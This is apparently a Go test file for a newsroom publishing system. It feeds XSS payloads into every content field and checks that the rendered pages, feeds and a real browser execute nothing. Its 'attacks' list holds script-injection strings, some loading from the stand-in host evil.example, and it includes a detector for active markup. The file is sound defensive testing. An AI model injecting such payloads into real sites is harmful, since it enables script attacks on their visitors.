package app_test

import (
	"bufio"
	"bytes"
	"cmp"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"stet/internal/article"
	"stet/internal/author"
	"stet/internal/comment"
	"stet/internal/markup"
	"stet/internal/media"
	"stet/internal/staff"
	"stet/internal/taxonomy"
)

// attacks are a few of those that the shared corpora hold, for where they aren't on the machine.
var attacks = []string{
	`<script>alert(1)</script>`, `"><script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `javascript:alert(1)`,
	`<a href="javascript:alert(1)">x</a>`, `<svg/onload=alert(1)>`, `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`, `</title></textarea></script><img src=x onerror=alert(1)>`,
	`<style>@import "//evil.example/x.css"</style>`, `<p style="background:url(//evil.example/)">x</p>`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example/">`,
	`<form action=//evil.example/><input type=submit></form>`, `{{.}}`, `${alert(1)}`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `]]><script>alert(1)</script>`, `--><script>alert(1)</script>`,
}

// together is how many of the parser tests stand in one text: they are no attacks, only markup that parsers disagree about.
const together = 6

// corpora gives the entries of the shared corpora after those of this file, and says how many there are.
func corpora(t testing.TB) (texts []string, entries int) {
	t.Helper()
	dir := os.Getenv("STET_SHARED_DATA")
	for up := "."; dir == ""; up = filepath.Join(up, "..") {
		if _, err := os.Stat(filepath.Join(up, "go.mod")); err == nil {
			dir = filepath.Join(up, "..", "shared", "data")
		}
	}
	files, err := filepath.Glob(filepath.Join(dir, "xss", "*.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	if len(files) == 0 {
		t.Log("corpus absent")
	}
	texts, entries = slices.Clone(attacks), len(attacks)
	for _, name := range files {
		raw, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		lines := bufio.NewScanner(bytes.NewReader(raw))
		lines.Buffer(nil, 1<<20)
		var all []string
		for lines.Scan() {
			var entry struct{ HTML string }
			if err := json.Unmarshal(lines.Bytes(), &entry); err != nil {
				t.Fatal(err)
			}
			all = append(all, strings.ReplaceAll(strings.ToValidUTF8(entry.HTML, ""), "\x00", ""))
		}
		entries += len(all)
		n := 1
		if strings.HasPrefix(filepath.Base(name), "html5lib") {
			n = together
		}
		for some := range slices.Chunk(all, n) {
			texts = append(texts, strings.Join(some, "\n"))
		}
	}
	return texts, entries
}

// lineOf is an entry as a field of one line takes it: n characters, without those that no line may hold.
func lineOf(entry string, n int) string {
	var out []rune
	for _, r := range entry {
		if !markup.BadLine(string(r)) && len(out) < n {
			out = append(out, r)
		}
	}
	return strings.TrimSpace(string(out))
}

// active lists what a page holds that runs or loads what isn't the site's own.
func active(page string) []string {
	tree, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	var out []string
	for n := range tree.Descendants() {
		if n.Type == html.ElementNode {
			out = append(out, activeIn(n)...)
		}
	}
	return out
}

func activeIn(n *html.Node) []string {
	attrs := map[string]string{}
	for _, a := range n.Attr {
		attrs[strings.ToLower(a.Key)] = a.Val
	}
	var out []string
	note := func(what string) { out = append(out, fmt.Sprintf("%s in <%s %v>", what, n.Data, n.Attr)) }
	switch n.Data {
	case "script":
		isData := attrs["type"] == "application/ld+json" || attrs["type"] == "application/json"
		if isData && !json.Valid([]byte(n.FirstChild.Data)) || !isData && (!strings.HasPrefix(attrs["src"], "/static/") || n.FirstChild != nil) {
			note("a script")
		}
	case "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "math", "foreignobject", "animate", "set":
		note("an element")
	case "link":
		if attrs["rel"] == "stylesheet" && !strings.HasPrefix(attrs["href"], "/static/") {
			note("a style sheet")
		}
	case "meta":
		if attrs["http-equiv"] != "" {
			note("an instruction")
		}
	}
	for key, value := range attrs {
		bare := strings.ToLower(strings.Map(func(r rune) rune {
			if r <= ' ' {
				return -1
			}
			return r
		}, value))
		own := strings.HasPrefix(bare, "/") && !strings.HasPrefix(bare, "//") || bare == "" || strings.HasPrefix(bare, "?") || strings.HasPrefix(bare, "#")
		switch {
		case strings.HasPrefix(key, "on"), key == "style", key == "srcdoc", key == "formaction" && !own, key == "action" && !own, key == "src" && !own, key == "poster", key == "background", key == "ping":
			note(key)
		case key == "href" || strings.HasSuffix(key, ":href") || key == "data" || key == "srcset" || key == "cite":
			if strings.HasPrefix(bare, "javascript:") || strings.HasPrefix(bare, "data:") || strings.HasPrefix(bare, "vbscript:") {
				note(key)
			}
		}
	}
	return out
}

// hostile is a world that takes one entry after the other into every field.
type hostile struct {
	*world
	editor, admin, reader *visitor
	category              taxonomy.Category
	author                author.Author
	pages, feeds          int
}

// page asks for a page and insists that nothing in it is active.
func (h *hostile) page(v *visitor, path, entry string) {
	h.Helper()
	got := v.get(path)
	h.harmless(got, path, entry)
}

func (h *hostile) harmless(got answer, path, entry string) {
	h.Helper()
	h.pages++
	if got.StatusCode >= http.StatusInternalServerError {
		h.Errorf("%s with %q = %d", path, entry, got.StatusCode)
	}
	if found := active(got.body); len(found) > 0 {
		h.Errorf("%s with %q holds %s", path, entry, found)
	}
}

// feed asks for a feed: it has to be well-formed, and what it gives as HTML harmless.
func (h *hostile) feed(path, entry string) {
	h.Helper()
	got := h.reader.get(path)
	h.feeds++
	if strings.Contains(path, "json") {
		var f struct {
			Items []struct {
				HTML string `json:"content_html"`
			}
		}
		if err := json.Unmarshal([]byte(got.body), &f); err != nil {
			h.Errorf("%s with %q: %v", path, entry, err)
		}
		for _, item := range f.Items {
			h.harmlessPart(item.HTML, path, entry)
		}
		return
	}
	d := xml.NewDecoder(strings.NewReader(got.body))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			h.Errorf("%s with %q: %v", path, entry, err)
			return
		}
		start, ok := token.(xml.StartElement)
		if ok && (start.Name.Local == "encoded" || start.Name.Local == "content" && start.Name.Space == "http://www.w3.org/2005/Atom" || start.Name.Local == "summary") {
			var text string
			if err := d.DecodeElement(&text, &start); err != nil {
				h.Errorf("%s with %q: %v", path, entry, err)
				return
			}
			h.harmlessPart(text, path, entry)
		}
	}
}

// harmlessPart is harmless of what a feed carries: pictures there have whole addresses.
func (h *hostile) harmlessPart(part, path, entry string) {
	h.Helper()
	if found := active(strings.ReplaceAll(part, h.server.URL, "")); len(found) > 0 {
		h.Errorf("%s with %q holds %s", path, entry, found)
	}
}

func (h *hostile) must(err error) {
	h.Helper()
	if err != nil {
		h.Fatal(err)
	}
}

// taken puts an entry into every field of an article, its notices and a comment on it, and gives its id and address.
func (h *hostile) taken(entry string, picture int64) (int64, string) {
	h.Helper()
	ctx, actor, store := h.Context(), h.people[staff.Editor], h.app.Articles
	line := cmp.Or(lineOf(entry, 110), "-")
	d := article.Draft{Headline: line, Standfirst: lineOf(entry, 2000), Kicker: line, Dateline: line, Body: entry + "\n\n<figure><img data-media=\"" + fmt.Sprint(picture) + "\" alt=\"" + html.EscapeString(entry) +
		"\"><figcaption>" + entry + "<span class=\"credit\">" + entry + "</span></figcaption></figure>\n\n<p>Stands: " + html.EscapeString(entry) + "</p>", Category: h.category.Slug, Tags: []string{"x " + line}, Authors: []string{"By " + line, h.author.Slug},
		Image: picture, ImageAlt: lineOf(entry, 2000), ImageCaption: lineOf(entry, 2000), ImageCredit: line, Note: line}
	id, err := store.Create(ctx, actor, article.KindArticle, "")
	h.must(err)
	saved, err := store.Save(ctx, actor, id, article.SaveIn{Draft: d, Base: 1})
	h.must(err)
	out, err := store.Publish(ctx, actor, id, article.PublishIn{Revision: saved.Number})
	h.must(err)
	_, err = store.Append(ctx, actor, id, article.NoticeIn{Kind: article.Correction, Notice: "We said: " + entry + "\n\n<p>x</p>"})
	h.must(err)
	d.Body, d.Headline = "<p>Another text altogether now.</p>"+entry+entry, "Anew "+line
	_, err = store.Save(ctx, actor, id, article.SaveIn{Draft: d, Base: saved.Number})
	h.must(err)
	h.must(h.app.Articles.Submit(ctx, actor, id))
	_, err = h.app.Comments.Post(ctx, comment.In{ArticleID: id, Name: cmp.Or(lineOf(entry, 80), "N"), Email: fmt.Sprintf("r%d@reader.example", id), Body: "Said: " + cut(entry, 9000), Version: 1, Address: netip.AddrFrom4([4]byte{10, 0, byte(id >> 8), byte(id)})})
	h.must(err)
	if id%2 == 0 { // the others stay in the queue
		var said int64
		h.must(h.db.App.QueryRow(ctx, `SELECT max(id) FROM comments WHERE article_id = $1`, id).Scan(&said))
		h.must(h.app.Comments.Decide(ctx, h.people[staff.Moderator], comment.Pick{ID: said}, comment.Approve, ""))
	}
	return id, out.Path
}

func cut(s string, n int) string { return s[:min(len(s), n)] }

// TestHostileTextEverywhere takes every entry of the corpora into every field and looks at every page that shows it.
func TestHostileTextEverywhere(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	h := &hostile{world: w, editor: w.signedIn(staff.Editor), admin: w.signedIn(staff.Admin), reader: w.visitor()}
	m, err := w.app.Media.AddPicture(t.Context(), w.people[staff.Editor], media.Upload{Name: "a.png", Reader: bytes.NewReader(greyPNG(t)), Alt: "A"})
	h.must(err)
	h.category, err = w.app.Taxonomy.Create(t.Context(), w.people[staff.Admin], taxonomy.CategoryIn{Name: "Coast"})
	h.must(err)
	h.author, err = w.app.Authors.Create(t.Context(), w.people[staff.Admin], author.In{Name: "Ivo Castellan"})
	h.must(err)
	all, entries := corpora(t)
	for i, entry := range all {
		id, path := h.taken(entry, m.ID)
		at := fmt.Sprintf("/newsroom/articles/%d", id)
		for _, p := range []string{path, path + "history"} {
			h.page(h.reader, p, entry)
		}
		for _, p := range []string{at, at + "/preview", at + "/compare", at + "/publish", at + "/revisions"} {
			h.page(h.editor, p, entry)
		}
		overlap := h.editor.do(http.MethodPost, at, form("revision", "2", "headline", "Mine "+lineOf(entry, 200), "body", "<p>Mine.</p>"+entry))
		if h.harmless(overlap, at+" (overlap)", entry); overlap.StatusCode != http.StatusConflict {
			t.Errorf("an overlap with %q = %d", entry, overlap.StatusCode)
		}
		if i%12 == 0 {
			h.around(entry, m.ID, path, at)
		}
	}
	t.Logf("%d entries, as %d texts in every field: %d pages and %d feeds, nothing active", entries, len(all), h.pages, h.feeds)
}

// around looks at what is made of many articles, with the entry as the name of a category and an author too.
func (h *hostile) around(entry string, picture int64, path, at string) {
	h.Helper()
	ctx, admin := h.Context(), h.people[staff.Admin]
	var err error
	h.category, err = h.app.Taxonomy.Update(ctx, admin, h.category.ID, taxonomy.CategoryIn{Name: cmp.Or(lineOf(entry, 50), "-"), Slug: h.category.Slug, Description: lineOf(entry, 200)})
	h.must(err)
	h.author, err = h.app.Authors.Update(ctx, admin, h.author.ID, author.In{Name: "U " + lineOf(entry, 50), Slug: h.author.Slug, Role: lineOf(entry, 50), Biography: entry})
	h.must(err)
	h.admin.do(http.MethodPost, fmt.Sprintf("/newsroom/media/%d", picture), form("alt", lineOf(entry, 200), "caption", lineOf(entry, 200), "credit", lineOf(entry, 100)))
	h.harmless(h.editor.do(http.MethodPost, at, form("revision", "2", "slug", entry, "tags", entry, "language", entry, "kicker", entry)), at+" (refused)", entry)
	h.harmless(h.editor.do(http.MethodPost, at+"/publish", form("revision", "2", "kind", entry, "notice", entry, "at", entry)), at+"/publish (refused)", entry)
	for _, p := range []string{"/", path + "v/1", "/category/" + h.category.Slug + "/", h.author.Path(), "/corrections/", "/search?q=" + "stands", "/comments/"} {
		h.page(h.reader, p, entry)
	}
	for _, p := range []string{"/newsroom/articles", "/newsroom/articles?status=changed", "/newsroom/comments", "/newsroom/tags", "/newsroom/authors", fmt.Sprintf("/newsroom/authors/%d", h.author.ID), "/newsroom/categories",
		fmt.Sprintf("/newsroom/categories/%d", h.category.ID), "/newsroom/media", fmt.Sprintf("/newsroom/media/%d", picture), "/newsroom/audit", at + "/updates", at + "/notices/2", at + "/compare?from=1&to=3"} {
		h.page(h.admin, p, entry)
	}
	for _, p := range []string{"/feed/", "/feed.json", path + "feed/", "/corrections/feed/", "/sitemap.xml"} {
		h.feed(p, entry)
	}
}

// TestActiveIsFound makes sure that the look at pages sees what it is for.
func TestActiveIsFound(t *testing.T) {
	found := 0
	for _, entry := range attacks {
		if len(active("<p>"+entry+"</p>")) > 0 {
			found++
		}
	}
	if want := len(attacks) - 4; found != want { // an address, a broken attribute and two templates do nothing by themselves
		t.Errorf("%d of %d attacks are found when they stand in a page as they are, want %d", found, len(attacks), want)
	}
}

// TestHostileTextInBrowser shows many entries at once to a real browser: nothing is called, nothing breaks the policy.
func TestHostileTextInBrowser(t *testing.T) {
	w := newWorld(t)
	all, entries := corpora(t)
	var body strings.Builder
	for i, entry := range all {
		fmt.Fprintf(&body, "<p>%d: %s</p>\n\n", i, entry)
	}
	ctx, actor := t.Context(), w.people[staff.Editor]
	line := lineOf(strings.Join(attacks[:4], " "), 250)
	id, path := w.published("Open", "<p>For everyone</p>"+body.String())
	if _, err := w.app.Articles.Append(ctx, actor, id, article.NoticeIn{Kind: article.Update, Notice: cut(body.String(), 30_000)}); err != nil {
		t.Fatal(err)
	}
	d := article.Draft{Headline: line, Standfirst: line, Kicker: line, Dateline: line, Tags: []string{"x " + lineOf(line, 80)}, Authors: []string{"By " + lineOf(line, 80)}, Note: line, Body: body.String() + "<p>Anew</p>"}
	if _, err := w.app.Articles.Save(ctx, actor, id, article.SaveIn{Base: 2, Draft: d}); err != nil {
		t.Fatal(err)
	}
	for i, entry := range all[:min(60, len(all))] {
		in := comment.In{ArticleID: id, Name: cmp.Or(lineOf(entry, 80), "N"), Email: fmt.Sprintf("r%d@reader.example", i), Body: "Said: " + cut(entry, 9000), Version: 1, Address: netip.AddrFrom4([4]byte{10, 0, 0, byte(i)})}
		if _, err := w.app.Comments.Post(ctx, in); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := w.db.App.Exec(ctx, `UPDATE settings SET title = $1`, lineOf(attacks[1], 80)); err != nil {
		t.Fatal(err)
	}
	b := w.browser()
	b.before(`window.called = []; for (const f of ['alert', 'confirm', 'prompt', 'print']) window[f] = x => window.called.push(f + ' ' + x)`)
	b.width(1280)
	b.signIn(staff.Admin)
	at := fmt.Sprintf("/newsroom/articles/%d", id)
	pages := []string{path, path + "history", at, at + "/preview", at + "/compare", at + "/publish", at + "/revisions", "/newsroom/articles", "/newsroom/comments", "/newsroom/audit", "/"}
	for _, p := range pages {
		b.open(p)
		if called := eval[[]string](b, `window.called`); len(called) > 0 {
			t.Errorf("%s called %q", p, called)
		}
		if n := eval[int](b, `document.querySelectorAll('[onerror], [onload], [onclick], [onmouseover], iframe, object, embed').length`); n > 0 {
			t.Errorf("%s holds %d active elements", p, n)
		}
		b.clean()
	}
	t.Logf("%d entries on %d pages: nothing called, no policy broken", entries, len(pages))
}
